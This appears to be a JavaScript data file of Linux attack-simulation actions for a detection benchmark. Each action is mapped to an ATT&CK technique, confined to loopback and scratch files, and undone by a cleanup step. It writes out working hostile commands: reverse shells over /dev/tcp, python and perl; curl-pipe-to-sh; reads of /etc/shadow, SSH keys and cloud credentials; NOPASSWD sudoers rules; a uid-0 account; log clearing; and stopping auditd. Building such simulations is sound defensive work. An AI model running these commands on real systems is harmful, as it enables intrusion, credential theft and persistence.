// Attack simulations for bench/attack-sim: each action does what a public attack-simulation suite's
// test for that technique does on a Linux host, restricted to this host, loopback and temporary
// files, and undone by its `cleanup`. Written here (not copied from any suite) so the outside
// check's own suites stay held out.
//
// Fields: id, tactic, technique (ATT&CK), name, run (bash, the measured process tree), optional
// setup/cleanup (bash, run in their own processes before/after and not attributed to the action),
// optional requires (commands that must exist, else the action is "not runnable here").
// $T is a private scratch directory, $P a free loopback port, $PY the system python.

const py = (code) => `"$PY" - <<'PYEOF'\n${code}\nPYEOF`;
/** Scripts the simulations run as files (bench/attack-sim/fixtures). */
const FIXTURES = `${import.meta.dirname}/fixtures`;

/** @type {{id:string,tactic:string,technique:string,name:string,run:string,setup?:string,cleanup?:string,requires?:string[]}[]} */
export const ACTIONS = [
  // ---- credential access
  { id: 'cred-shadow-cat', tactic: 'credential-access', technique: 'T1003.008', name: 'read /etc/shadow with cat', run: 'cat /etc/shadow > /dev/null' },
  { id: 'cred-shadow-fresh-binary', tactic: 'credential-access', technique: 'T1003.008', name: 'a freshly dropped binary reads /etc/shadow', setup: 'cp /usr/bin/head "$T/updater"', run: '"$T/updater" -c 100 /etc/shadow > /dev/null' },
  { id: 'cred-gshadow', tactic: 'credential-access', technique: 'T1003.008', name: 'read /etc/gshadow with python', run: py('open("/etc/gshadow").read()') },
  { id: 'cred-ssh-key', tactic: 'credential-access', technique: 'T1552.004', name: 'find and read SSH private keys', setup: 'mkdir -p /root/.ssh && ssh-keygen -q -t ed25519 -N "" -f /root/.ssh/id_vigilsim >/dev/null 2>&1 || head -c 400 /dev/urandom | base64 > /root/.ssh/id_vigilsim', run: 'find /root/.ssh /home -name "id_*" -not -name "*.pub" 2>/dev/null | xargs -r cat > /dev/null', cleanup: 'rm -f /root/.ssh/id_vigilsim /root/.ssh/id_vigilsim.pub' },
  { id: 'cred-bash-history', tactic: 'credential-access', technique: 'T1552.003', name: 'read shell history for secrets', setup: 'touch /root/.bash_history', run: 'grep -iE "pass|token|secret" /root/.bash_history > /dev/null; cat /root/.bash_history > /dev/null' },
  { id: 'cred-aws', tactic: 'credential-access', technique: 'T1552.001', name: 'read cloud credentials', setup: 'mkdir -p /root/.aws && [ -e /root/.aws/credentials ] || { printf "[default]\\naws_access_key_id=AKIAVIGILSIM\\n" > /root/.aws/credentials; touch /root/.aws/.vigilsim; }', run: 'cat /root/.aws/credentials > /dev/null', cleanup: '[ -e /root/.aws/.vigilsim ] && rm -rf /root/.aws || true' },
  { id: 'cred-kube', tactic: 'credential-access', technique: 'T1552.001', name: 'read Kubernetes credentials', setup: 'mkdir -p /root/.kube && [ -e /root/.kube/config ] || { printf "apiVersion: v1\\n" > /root/.kube/config; touch /root/.kube/.vigilsim; }', run: 'cat /root/.kube/config > /dev/null', cleanup: '[ -e /root/.kube/.vigilsim ] && rm -rf /root/.kube || true' },
  { id: 'cred-proc-environ', tactic: 'credential-access', technique: 'T1003.007', name: "read another process's environment and memory map", run: 'sleep 30 & v=$!; cat /proc/$v/environ > /dev/null; cat /proc/$v/maps > /dev/null; kill $v' },
  { id: 'cred-proc-mem', tactic: 'credential-access', technique: 'T1003.007', name: "dump another process's memory through /proc/PID/mem", run: `sleep 30 & v=$!; "$PY" - $v <<'PYEOF'
import sys
pid = sys.argv[1]
for line in open(f"/proc/{pid}/maps"):
    if "[stack]" in line:
        a, b = (int(x, 16) for x in line.split()[0].split("-"))
        with open(f"/proc/{pid}/mem", "rb") as m:
            m.seek(a); m.read(4096)
PYEOF
kill $v` },

  // ---- persistence
  { id: 'persist-cron-d', tactic: 'persistence', technique: 'T1053.003', name: 'drop a file in /etc/cron.d', run: 'echo "# vigil attack simulation" > /etc/cron.d/vigilsim', cleanup: 'rm -f /etc/cron.d/vigilsim' },
  { id: 'persist-cron-spool', tactic: 'persistence', technique: 'T1053.003', name: "write a user's crontab directly", run: 'mkdir -p /var/spool/cron/crontabs && echo "# vigilsim" >> /var/spool/cron/crontabs/vigilsim', cleanup: 'rm -f /var/spool/cron/crontabs/vigilsim' },
  { id: 'persist-systemd-unit', tactic: 'persistence', technique: 'T1543.002', name: 'create a systemd service unit', run: 'printf "[Service]\\nExecStart=/bin/true\\n" > /etc/systemd/system/vigilsim.service', cleanup: 'rm -f /etc/systemd/system/vigilsim.service' },
  { id: 'persist-systemd-timer', tactic: 'persistence', technique: 'T1053.006', name: 'create a systemd timer', run: 'printf "[Timer]\\nOnCalendar=hourly\\n" > /etc/systemd/system/vigilsim.timer', cleanup: 'rm -f /etc/systemd/system/vigilsim.timer' },
  { id: 'persist-etc-profile', tactic: 'persistence', technique: 'T1546.004', name: 'append to /etc/profile', setup: 'cp -p /etc/profile "$T/profile.bak"', run: 'echo "# vigilsim" >> /etc/profile', cleanup: 'cp -p "$T/profile.bak" /etc/profile' },
  { id: 'persist-profile-d', tactic: 'persistence', technique: 'T1546.004', name: 'drop a script in /etc/profile.d', run: 'echo "# vigilsim" > /etc/profile.d/vigilsim.sh', cleanup: 'rm -f /etc/profile.d/vigilsim.sh' },
  { id: 'persist-bashrc', tactic: 'persistence', technique: 'T1546.004', name: "append to root's .bashrc", setup: 'touch /root/.bashrc; cp -p /root/.bashrc "$T/bashrc.bak"', run: 'echo "# vigilsim" >> /root/.bashrc', cleanup: 'cp -p "$T/bashrc.bak" /root/.bashrc' },
  { id: 'persist-authorized-keys', tactic: 'persistence', technique: 'T1098.004', name: 'add an SSH authorized key', setup: 'mkdir -p /root/.ssh; touch /root/.ssh/authorized_keys; cp -p /root/.ssh/authorized_keys "$T/ak.bak"', run: 'echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIVigilSimulationKeyOnlyForTestingPurposes vigilsim" >> /root/.ssh/authorized_keys', cleanup: 'cp -p "$T/ak.bak" /root/.ssh/authorized_keys' },
  { id: 'persist-ld-so-preload', tactic: 'persistence', technique: 'T1574.006', name: 'open /etc/ld.so.preload for writing', setup: '[ -e /etc/ld.so.preload ] && cp -p /etc/ld.so.preload "$T/preload.bak" || true', run: ': >> /etc/ld.so.preload', cleanup: 'if [ -e "$T/preload.bak" ]; then cp -p "$T/preload.bak" /etc/ld.so.preload; else rm -f /etc/ld.so.preload; fi' },
  { id: 'persist-python-pth', tactic: 'persistence', technique: 'T1546', name: 'drop a Python .pth start-up hook', run: 'd=$("$PY" -c "import site;print(site.getsitepackages()[0])"); mkdir -p "$d" && echo "# vigilsim" > "$d/vigilsim.pth"', cleanup: 'd=$("$PY" -c "import site;print(site.getsitepackages()[0])"); rm -f "$d/vigilsim.pth"' },
  { id: 'persist-udev-rule', tactic: 'persistence', technique: 'T1546', name: 'drop a udev rule', run: 'mkdir -p /etc/udev/rules.d && echo "# vigilsim" > /etc/udev/rules.d/99-vigilsim.rules', cleanup: 'rm -f /etc/udev/rules.d/99-vigilsim.rules' },
  { id: 'persist-rc-local', tactic: 'persistence', technique: 'T1037.004', name: 'write rc.local', setup: '[ -e /etc/rc.local ] && cp -p /etc/rc.local "$T/rc.bak" || true', run: 'echo "# vigilsim" >> /etc/rc.local', cleanup: 'if [ -e "$T/rc.bak" ]; then cp -p "$T/rc.bak" /etc/rc.local; else rm -f /etc/rc.local; fi' },
  { id: 'persist-init-d', tactic: 'persistence', technique: 'T1037', name: 'drop an init script', run: 'printf "#!/bin/sh\\ntrue\\n" > /etc/init.d/vigilsim && chmod +x /etc/init.d/vigilsim', cleanup: 'rm -f /etc/init.d/vigilsim' },
  { id: 'persist-kernel-module', tactic: 'persistence', technique: 'T1547.006', name: 'try to load a kernel module', run: 'insmod "$T/vigilsim.ko" 2>/dev/null; true', setup: 'head -c 512 /dev/zero > "$T/vigilsim.ko"', requires: ['insmod'] },
  // ART test sweep (b): persistence tests the pack missed or named with another technique
  { id: 'persist-art-rc-common', tactic: 'persistence', technique: 'T1037.004', name: 'tee a script into /etc/rc.common and make it executable', setup: '[ -e /etc/rc.common ] && cp -p /etc/rc.common "$T/rc.common.bak" || true', run: `printf '#!/bin/sh\\n# vigilsim\\nexit 0\\n' | tee /etc/rc.common > /dev/null && chmod +x /etc/rc.common`, cleanup: 'if [ -e "$T/rc.common.bak" ]; then cp -p "$T/rc.common.bak" /etc/rc.common; else rm -f /etc/rc.common; fi' },
  { id: 'persist-art-sysv-service', tactic: 'persistence', technique: 'T1543.002', name: 'drop an init script and register it as a boot service with update-rc.d (never started)', requires: ['update-rc.d'], run: `printf '#!/bin/sh\\n### BEGIN INIT INFO\\n# Provides: vigilsim-art\\n# Required-Start: $remote_fs\\n# Required-Stop: $remote_fs\\n# Default-Start: 2 3 4 5\\n# Default-Stop: 0 1 6\\n### END INIT INFO\\ntrue\\n' > /etc/init.d/vigilsim-art && chmod +x /etc/init.d/vigilsim-art && update-rc.d vigilsim-art defaults > /dev/null 2>&1; true`, cleanup: 'update-rc.d -f vigilsim-art remove > /dev/null 2>&1; rm -f /etc/init.d/vigilsim-art; command -v systemctl > /dev/null && systemctl daemon-reload > /dev/null 2>&1; true' },
  { id: 'persist-art-useradd-hash', tactic: 'persistence', technique: 'T1078.003', name: 'create an account with an openssl passwd hash given on the useradd command line', requires: ['useradd', 'openssl'], run: 'useradd -M -N -s /usr/sbin/nologin --password "$(openssl passwd -1 vigilsim)" vigilsim7', cleanup: 'userdel vigilsim7 > /dev/null 2>&1; true' },

  // ---- privilege escalation
  { id: 'privesc-setuid', tactic: 'privilege-escalation', technique: 'T1548.001', name: 'make a copied shell setuid', setup: 'cp /bin/dash "$T/sh"', run: 'chmod u+s "$T/sh"' },
  { id: 'privesc-setgid', tactic: 'privilege-escalation', technique: 'T1548.001', name: 'make a binary setgid (octal)', setup: 'cp /bin/true "$T/tr"', run: 'chmod 2755 "$T/tr"' },
  { id: 'privesc-setcap', tactic: 'privilege-escalation', technique: 'T1548', name: 'grant a file capabilities', setup: 'cp "$PY" "$T/py"', run: 'setcap cap_setuid+ep "$T/py"', requires: ['setcap'] },
  { id: 'privesc-sudoers', tactic: 'privilege-escalation', technique: 'T1548.003', name: 'add a sudoers rule', setup: 'mkdir -p /etc/sudoers.d && { [ -e /etc/sudoers.d/.vigilsim-dir ] || ls -A /etc/sudoers.d | grep -q . || touch /etc/sudoers.d/.vigilsim-dir; }', run: 'echo "nobody ALL=(ALL) NOPASSWD: ALL" > /etc/sudoers.d/vigilsim', cleanup: 'rm -f /etc/sudoers.d/vigilsim; if [ -e /etc/sudoers.d/.vigilsim-dir ]; then rm -rf /etc/sudoers.d; fi' },
  { id: 'privesc-unshare-user', tactic: 'privilege-escalation', technique: 'T1611', name: 'unshare a user and mount namespace', run: 'unshare -Urm true' },
  // as an unprivileged user, as exploits do (root gains nothing); UFFD_USER_MODE_ONLY is what an unprivileged caller may still open
  { id: 'privesc-userfaultfd', tactic: 'privilege-escalation', technique: 'T1068', name: 'open userfaultfd as an unprivileged user (exploit primitive)', run: `setpriv --reuid=65534 --regid=65534 --clear-groups "$PY" -c 'import ctypes; libc = ctypes.CDLL(None, use_errno=True); libc.syscall(323, 1)'` },
  // ART test sweep (b): sudo tests the pack missed or named with another technique
  { id: 'privesc-art-sudoers-sed-inplace', tactic: 'privilege-escalation', technique: 'T1548.003', name: 'edit /etc/sudoers in place with sed -i (an edit that changes nothing; sed still renames its copy over the file) and check it with visudo', requires: ['visudo'], setup: 'cp -p /etc/sudoers "$T/sudoers.bak"', run: "sed -i 's/^# vigilsim-no-such-line$//' /etc/sudoers && visudo -c -f /etc/sudoers > /dev/null", cleanup: 'cp -p "$T/sudoers.bak" /etc/sudoers' },
  { id: 'privesc-art-sudoers-read', tactic: 'privilege-escalation', technique: 'T1548.003', name: 'read /etc/sudoers with cat', run: 'cat /etc/sudoers > /dev/null' },

  // ---- defence evasion
  { id: 'evade-truncate-log', tactic: 'defense-evasion', technique: 'T1070.002', name: 'truncate a system log', setup: 'echo "line" > /var/log/vigilsim.log', run: 'truncate -s 0 /var/log/vigilsim.log', cleanup: 'rm -f /var/log/vigilsim.log' },
  { id: 'evade-clear-log-redirect', tactic: 'defense-evasion', technique: 'T1070.002', name: 'clear a log with a redirect', setup: 'echo "line" > /var/log/vigilsim2.log', run: ': > /var/log/vigilsim2.log', cleanup: 'rm -f /var/log/vigilsim2.log' },
  { id: 'evade-history-clear', tactic: 'defense-evasion', technique: 'T1070.003', name: 'clear bash history file', setup: 'touch /root/.bash_history; cp -p /root/.bash_history "$T/hist.bak"', run: 'cat /dev/null > /root/.bash_history', cleanup: 'cp -p "$T/hist.bak" /root/.bash_history' },
  { id: 'evade-history-symlink', tactic: 'defense-evasion', technique: 'T1070.003', name: 'link shell history to /dev/null', setup: 'mkdir -p "$T/home"; echo x > "$T/home/.bash_history"', run: 'ln -sf /dev/null "$T/home/.bash_history"' },
  { id: 'evade-timestomp', tactic: 'defense-evasion', technique: 'T1070.006', name: 'timestomp a file', setup: 'echo x > "$T/implant"', run: 'touch -t 201001010000 "$T/implant"; touch -r /bin/ls "$T/implant"' },
  { id: 'evade-hidden-system-file', tactic: 'defense-evasion', technique: 'T1564.001', name: 'hide a file in a system directory', run: 'cp /bin/true /usr/bin/.vigilsim', cleanup: 'rm -f /usr/bin/.vigilsim' },
  { id: 'evade-masquerade-prctl', tactic: 'defense-evasion', technique: 'T1036.004', name: 'rename the process to look like a kernel thread', run: py('import ctypes, time\nlibc = ctypes.CDLL(None)\nlibc.prctl(15, b"[kworker/0:1]", 0, 0, 0)\ntime.sleep(0.2)') },
  { id: 'evade-masquerade-copy', tactic: 'defense-evasion', technique: 'T1036.005', name: 'run a binary copied under a daemon name', setup: 'cp /bin/sleep "$T/sshd"', run: '"$T/sshd" 0.3' },
  { id: 'evade-ld-preload', tactic: 'defense-evasion', technique: 'T1574.006', name: 'run a program with LD_PRELOAD', setup: 'cp /lib/x86_64-linux-gnu/libc.so.6 "$T/libhook.so"', run: 'LD_PRELOAD="$T/libhook.so" /bin/true' },
  { id: 'evade-shred', tactic: 'defense-evasion', technique: 'T1070.004', name: 'shred a file', setup: 'echo secret > "$T/evidence"', run: 'shred -u "$T/evidence"' },
  { id: 'evade-symlink-shadow', tactic: 'defense-evasion', technique: 'T1222', name: 'symlink to /etc/shadow', run: 'ln -s /etc/shadow "$T/s"' },
  { id: 'evade-hardlink-shadow', tactic: 'defense-evasion', technique: 'T1222', name: 'hard link to /etc/shadow', run: 'ln /etc/shadow /etc/.vigilsim-shadow', cleanup: 'rm -f /etc/.vigilsim-shadow' },
  { id: 'evade-write-bin', tactic: 'defense-evasion', technique: 'T1036.005', name: 'drop a binary in /usr/local/bin', run: 'cp /bin/true /usr/local/bin/vigilsim-update', cleanup: 'rm -f /usr/local/bin/vigilsim-update' },
  { id: 'evade-mkdir-bin', tactic: 'defense-evasion', technique: 'T1564.001', name: 'create a directory below /usr/bin', run: 'mkdir /usr/bin/.vigilsim-dir', cleanup: 'rmdir /usr/bin/.vigilsim-dir' },
  { id: 'evade-dev-file', tactic: 'defense-evasion', technique: 'T1564.001', name: 'create a file below /dev', run: 'echo x > /dev/.vigilsim', cleanup: 'rm -f /dev/.vigilsim' },
  { id: 'evade-exec-dev-shm', tactic: 'defense-evasion', technique: 'T1036', name: 'execute from /dev/shm', setup: 'cp /bin/true /dev/shm/vigilsim', run: '/dev/shm/vigilsim', cleanup: 'rm -f /dev/shm/vigilsim' },
  { id: 'evade-exec-tmp', tactic: 'defense-evasion', technique: 'T1036', name: 'download-style drop and execute from /tmp', run: 'printf "#!/bin/sh\\nid\\n" > /tmp/.vigilsim-x && chmod +x /tmp/.vigilsim-x && /tmp/.vigilsim-x > /dev/null', cleanup: 'rm -f /tmp/.vigilsim-x' },
  { id: 'evade-exec-deleted', tactic: 'defense-evasion', technique: 'T1070.004', name: 'run a binary and delete it while it runs', setup: 'cp /bin/sleep "$T/gone"', run: '"$T/gone" 1 & sleep 0.3; rm -f "$T/gone"; wait' },
  { id: 'evade-memfd-exec', tactic: 'defense-evasion', technique: 'T1620', name: 'execute a binary from an anonymous memory file', run: py('import os\nfd = os.memfd_create("x", 0)\nos.write(fd, open("/bin/true", "rb").read())\npid = os.fork()\nif pid == 0:\n    os.execv(f"/proc/self/fd/{fd}", ["kworker"])\nos.waitpid(pid, 0)') },

  // ---- execution
  { id: 'exec-bash-reverse-shell', tactic: 'execution', technique: 'T1059.004', name: 'bash reverse shell over /dev/tcp', run: 'timeout 5 bash -c "bash -i >& /dev/tcp/127.0.0.1/$P 0>&1" 2>/dev/null; true', setup: 'listener' },
  { id: 'exec-python-reverse-shell', tactic: 'execution', technique: 'T1059.006', name: 'python reverse shell with a pty', setup: 'listener', run: `timeout 5 "$PY" -c 'import socket,os,pty;s=socket.socket();s.connect(("127.0.0.1",'$P'));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")' 2>/dev/null; true` },
  { id: 'exec-script-reverse-shell', tactic: 'execution', technique: 'T1059.004', name: 'reverse shell from a script file (no command line names it)', setup: 'listener', run: `timeout 5 "$PY" "${FIXTURES}/update-check.py" 2>/dev/null; true` },
  { id: 'exec-pty-shell', tactic: 'execution', technique: 'T1059.006', name: 'interpreter spawns a shell on a pty', run: `echo exit | timeout 5 "$PY" -c 'import pty; pty.spawn("/bin/sh")' > /dev/null; true` },
  { id: 'exec-base64-pipe', tactic: 'execution', technique: 'T1027', name: 'decoded pipeline into a shell', run: 'echo "aWQ7IHVuYW1lIC1h" | base64 -d | sh > /dev/null' },
  { id: 'exec-curl-pipe-sh', tactic: 'execution', technique: 'T1105', name: 'download a script and pipe it into sh', setup: 'webserver', run: 'curl -s "http://127.0.0.1:$P/x.sh" | sh > /dev/null' },
  { id: 'exec-perl-reverse-shell', tactic: 'execution', technique: 'T1059', name: 'perl reverse shell', setup: 'listener', run: `timeout 5 perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($ENV{P},inet_aton("127.0.0.1")))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};' 2>/dev/null; true`, requires: ['perl'] },
  // ART test sweep (b): shell and Python tests the pack missed or named with another technique
  { id: 'exec-art-echo-var-to-bash', tactic: 'execution', technique: 'T1059.004', name: 'a command kept in a variable, echoed into bash', run: `VIGILSIM_CMD='echo vigilsim'; echo "$VIGILSIM_CMD" | /bin/bash > /dev/null` },
  { id: 'exec-art-base64-to-bash', tactic: 'execution', technique: 'T1059.004', name: 'a base64 string decoded into bash', run: 'V=$(echo -n id | base64 -w 0); echo -n "$V" | base64 -d | /bin/bash > /dev/null' },
  { id: 'exec-art-tmp-script', tactic: 'execution', technique: 'T1059.004', name: 'write a script with mktemp in /tmp and run it with bash', run: 'f=$(mktemp /tmp/tmp.XXXXXXXXXX) && echo id > "$f" && bash "$f" > /dev/null; rm -f "$f"' },
  { id: 'exec-art-shell-discovery', tactic: 'execution', technique: 'T1059.004', name: 'look up the current and the available shells', run: 'printenv SHELL > /dev/null; cat /etc/shells > /dev/null; true' },
  { id: 'exec-art-chsh', tactic: 'execution', technique: 'T1059.004', name: "change a fresh account's login shell with chsh", requires: ['useradd', 'chsh'], setup: 'useradd -M -N -s /bin/bash vigilsim8', run: 'chsh -s /bin/sh vigilsim8', cleanup: 'userdel vigilsim8 > /dev/null 2>&1; true' },
  { id: 'exec-art-autosuid', tactic: 'execution', technique: 'T1059.004', name: 'run a stand-in AutoSUID.sh (lists setuid programs of /usr/bin) with bash', setup: `mkdir -p "$T/art" && printf '#!/bin/sh\\nfind /usr/bin -perm -4000 -type f 2>/dev/null\\n' > "$T/art/AutoSUID.sh"`, run: 'bash "$T/art/AutoSUID.sh" > /dev/null', cleanup: 'rm -f "$T/art/AutoSUID.sh"' },
  { id: 'exec-art-python-fetch-run', tactic: 'execution', technique: 'T1059.006', name: 'python -c fetches a script from a loopback web server and runs it with os.system', setup: 'webserver', run: `"$PY" -c 'import urllib.request,os,sys;d=os.environ["T"];open(d+"/fetched.sh","wb").write(urllib.request.urlopen("http://127.0.0.1:"+os.environ["P"]+"/x.sh").read());os.system("sh "+d+"/fetched.sh > /dev/null")'`, cleanup: 'rm -f "$T/fetched.sh"' },
  { id: 'exec-art-python-pyc', tactic: 'execution', technique: 'T1059.006', name: 'compile a Python script with py_compile and run the .pyc', setup: `echo 'print("vigilsim")' > "$T/art-t1059.py"`, run: `"$PY" -c 'import py_compile,os;d=os.environ["T"];py_compile.compile(d+"/art-t1059.py", d+"/art-t1059.pyc")' && "$PY" "$T/art-t1059.pyc" > /dev/null`, cleanup: 'rm -f "$T/art-t1059.py" "$T/art-t1059.pyc"' },

  // ---- command and control, impact (ART test sweep b): tests the pack missed or named with another technique
  { id: 'c2-art-scp-pull-tmp', tactic: 'command-and-control', technique: 'T1105', name: 'scp a file from a (refusing) loopback port into the scratch directory under /tmp', requires: ['scp'], run: 'timeout 5 scp -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=2 -P "$P" "vigilsim@127.0.0.1:/tmp/vigilsim-src" "$T/" > /dev/null 2>&1; true' },
  { id: 'c2-art-rsync-push-tmp', tactic: 'command-and-control', technique: 'T1105', name: 'rsync the scratch directory to /tmp on a (refusing) loopback port', requires: ['rsync', 'ssh'], run: 'timeout 5 rsync -r -e "ssh -p $P -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=2" "$T/" "vigilsim@127.0.0.1:/tmp/vigilsim-dst" > /dev/null 2>&1; true' },
  { id: 'c2-art-download-then-run', tactic: 'command-and-control', technique: 'T1105', name: 'curl -o a script from a loopback web server, chmod +x it and run it with bash', setup: 'webserver', run: 'cd "$T" && curl -s -o atomic.sh "http://127.0.0.1:$P/x.sh"; chmod +x atomic.sh; bash atomic.sh > /dev/null', cleanup: 'rm -f "$T/atomic.sh"' },
  { id: 'c2-art-proxy-loopback', tactic: 'command-and-control', technique: 'T1090.001', name: 'export http_proxy pointing at a loopback port, then fetch through it', run: 'export http_proxy=127.0.0.1:$P; curl -s -m 2 http://vigilsim.invalid/ > /dev/null 2>&1; true' },
  { id: 'c2-art-telnet-odd-port', tactic: 'command-and-control', technique: 'T1571', name: 'telnet to a loopback listener on a non-telnet port', requires: ['telnet'], setup: 'listener', run: 'echo quit | timeout 3 telnet 127.0.0.1 "$P" > /dev/null 2>&1; true' },
  { id: 'impact-art-yes-devnull', tactic: 'impact', technique: 'T1496', name: 'burn a core for two seconds with yes > /dev/null', run: 'timeout 2 yes > /dev/null; true' },
  { id: 'impact-art-gpg-variable', tactic: 'impact', technique: 'T1486', name: 'encrypt a copied file with gpg called through a variable named after it', requires: ['gpg'], setup: 'cp /etc/hostname "$T/victim.txt"', run: 'which_gpg=$(command -v gpg); echo vigilsim | $which_gpg --batch --yes --passphrase-fd 0 --cipher-algo AES256 -o "$T/victim.gpg" -c "$T/victim.txt" 2>/dev/null', cleanup: 'rm -f "$T/victim.txt" "$T/victim.gpg"' },

  // ---- discovery
  { id: 'disc-port-scan', tactic: 'discovery', technique: 'T1046', name: 'scan 1,024 loopback ports from bash', run: 'for p in $(seq 1 1024); do (echo > /dev/tcp/127.0.0.1/$p) 2>/dev/null; done; true' },
  { id: 'disc-accounts', tactic: 'discovery', technique: 'T1087.001', name: 'enumerate local accounts', run: 'cat /etc/passwd > /dev/null; getent passwd > /dev/null; lastlog > /dev/null 2>&1; true' },
  { id: 'disc-connections', tactic: 'discovery', technique: 'T1049', name: 'enumerate network connections', run: 'ss -tanp > /dev/null; cat /proc/net/tcp > /dev/null' },
  { id: 'disc-suid-search', tactic: 'discovery', technique: 'T1083', name: 'search for setuid binaries', run: 'find /usr -perm -4000 -type f 2>/dev/null > /dev/null' },

  { id: 'disc-network-config', tactic: 'discovery', technique: 'T1016', name: 'list interfaces, routes and neighbours', run: 'ifconfig -a > /dev/null 2>&1; arp -a > /dev/null 2>&1; cat /etc/resolv.conf > /dev/null; true', requires: ['ifconfig', 'arp'] },
  { id: 'disc-netstat', tactic: 'discovery', technique: 'T1049', name: 'list connections with netstat', run: 'netstat -ant > /dev/null 2>&1; who -a > /dev/null; true', requires: ['netstat'] },
  { id: 'disc-logged-in-users', tactic: 'discovery', technique: 'T1033', name: 'list logged-in users', run: 'w > /dev/null; users > /dev/null; last -n 20 > /dev/null 2>&1; true' },
  { id: 'disc-system-info', tactic: 'discovery', technique: 'T1082', name: 'collect system information', run: 'hostnamectl > /dev/null 2>&1; dmesg 2>/dev/null | tail -n 5 > /dev/null; locale > /dev/null; timedatectl > /dev/null 2>&1; true' },
  { id: 'disc-security-software', tactic: 'discovery', technique: 'T1518.001', name: 'look for EDR and log agents in the process list', run: "ps aux | grep -E 'falcond|nessusd|cbagentd|td-agent|packetbeat|filebeat|auditbeat|osqueryd' > /dev/null; true" },
  { id: 'disc-password-policy', tactic: 'discovery', technique: 'T1201', name: 'read the password policy', run: 'cat /etc/login.defs > /dev/null; cat /etc/pam.d/common-password > /dev/null 2>&1; chage -l root > /dev/null 2>&1; true' },
  { id: 'disc-virtualization', tactic: 'discovery', technique: 'T1497.001', name: 'check for a hypervisor', run: "systemd-detect-virt > /dev/null 2>&1; lscpu | grep -iE 'hypervisor|virtualbox|vmware|qemu' > /dev/null; true" },
  { id: 'disc-sniff', tactic: 'discovery', technique: 'T1040', name: 'capture packets on loopback', run: 'timeout 3 tcpdump -c 5 -nni lo > /dev/null 2>&1; true', requires: ['tcpdump'] },
  { id: 'cred-grep-passwords', tactic: 'credential-access', technique: 'T1552.001', name: 'grep configuration for passwords', run: 'grep -ri password /etc/default /etc/ssh > /dev/null 2>&1; true' },
  { id: 'evade-stop-auditd', tactic: 'defense-evasion', technique: 'T1562.001', name: 'stop the audit and syslog daemons', run: 'systemctl stop auditd > /dev/null 2>&1; systemctl stop rsyslog > /dev/null 2>&1; true' },
  { id: 'evade-journal-vacuum', tactic: 'defense-evasion', technique: 'T1070.002', name: 'vacuum the systemd journal (a scratch journal directory)', setup: 'mkdir -p "$T/journal"', run: 'journalctl --directory "$T/journal" --rotate --vacuum-time=1s > /dev/null 2>&1; true' },
  { id: 'evade-chattr', tactic: 'defense-evasion', technique: 'T1222.002', name: 'lock and unlock a file with chattr', setup: 'echo x > "$T/locked"', run: 'chattr +i "$T/locked" 2>/dev/null; chattr -i "$T/locked" 2>/dev/null; true', cleanup: 'chattr -i "$T/locked" 2>/dev/null; true' },
  { id: 'evade-root-cert', tactic: 'defense-evasion', technique: 'T1553.004', name: 'install a root certificate', setup: 'openssl req -x509 -newkey rsa:2048 -nodes -subj /CN=vigilsim -days 1 -keyout "$T/ca.key" -out "$T/ca.crt" > /dev/null 2>&1', run: 'cp "$T/ca.crt" /usr/local/share/ca-certificates/vigilsim-root.crt', cleanup: 'rm -f /usr/local/share/ca-certificates/vigilsim-root.crt' },
  { id: 'persist-local-account', tactic: 'persistence', technique: 'T1136.001', name: 'create a local account (then delete it)', run: 'useradd -M -N -r -s /bin/bash -c vigilsim vigilsim1 && userdel vigilsim1', cleanup: 'userdel vigilsim1 > /dev/null 2>&1; true' },
  { id: 'persist-uid0-account', tactic: 'persistence', technique: 'T1136.001', name: 'create a second uid-0 account (then delete it)', run: 'useradd -o -u 0 -g 0 -M -d /root -s /bin/bash vigilsim0 && userdel -f vigilsim0', cleanup: 'userdel -f vigilsim0 > /dev/null 2>&1; true' },
  { id: 'persist-system-account-shell', tactic: 'persistence', technique: 'T1078.003', name: 'give the nobody account a login shell', setup: 'getent passwd nobody | cut -d: -f7 > "$T/nobody.shell"', run: 'usermod -s /bin/bash nobody', cleanup: 'usermod -s "$(cat "$T/nobody.shell")" nobody' },
  { id: 'evade-upx-pack', tactic: 'defense-evasion', technique: 'T1027.002', name: 'pack a binary with UPX', setup: 'cp /bin/true "$T/packme"', run: 'upx -q "$T/packme" > /dev/null 2>&1; true', requires: ['upx'] },
  { id: 'evade-firewall-flush', tactic: 'defense-evasion', technique: 'T1562.004', name: 'flush the firewall (in a network namespace of its own)', run: 'unshare --net iptables -F', requires: ['iptables'] },
  { id: 'persist-admin-group', tactic: 'persistence', technique: 'T1098', name: 'add an account to the sudo group', setup: 'useradd -M -N vigilsim3', run: 'usermod -aG sudo vigilsim3', cleanup: 'userdel vigilsim3 > /dev/null 2>&1; true' },
  { id: 'impact-lock-account', tactic: 'impact', technique: 'T1531', name: "lock an account and remove its password", setup: 'useradd -M -N vigilsim4', run: 'passwd -l vigilsim4 > /dev/null; passwd -d vigilsim4 > /dev/null', cleanup: 'userdel vigilsim4 > /dev/null 2>&1; true' },
  { id: 'impact-encrypt-gpg', tactic: 'impact', technique: 'T1486', name: 'encrypt a copy of /etc/passwd with gpg', run: 'gpg --batch --yes --passphrase vigilsim --cipher-algo AES256 --homedir "$T" -o "$T/passwd.gpg" -c /etc/passwd 2>/dev/null', requires: ['gpg'] },
  // stop 23: techniques the rules did not name before
  { id: 'cred-pam-write', tactic: 'credential-access', technique: 'T1556.003', name: 'add a PAM service file', run: 'printf "auth sufficient pam_permit.so\\n" > /etc/pam.d/vigilsim', cleanup: 'rm -f /etc/pam.d/vigilsim' },
  { id: 'cred-browser-logins', tactic: 'credential-access', technique: 'T1555.003', name: "copy a Firefox profile's saved logins", setup: '[ -e /root/.mozilla ] || touch "$T/.mozilla-created"; mkdir -p /root/.mozilla/firefox/vigilsim.default && echo "{}" > /root/.mozilla/firefox/vigilsim.default/logins.json', run: 'cp /root/.mozilla/firefox/*/logins.json "$T/" 2>/dev/null; true', cleanup: 'rm -rf /root/.mozilla/firefox/vigilsim.default; [ -e "$T/.mozilla-created" ] && rm -rf /root/.mozilla; true' },
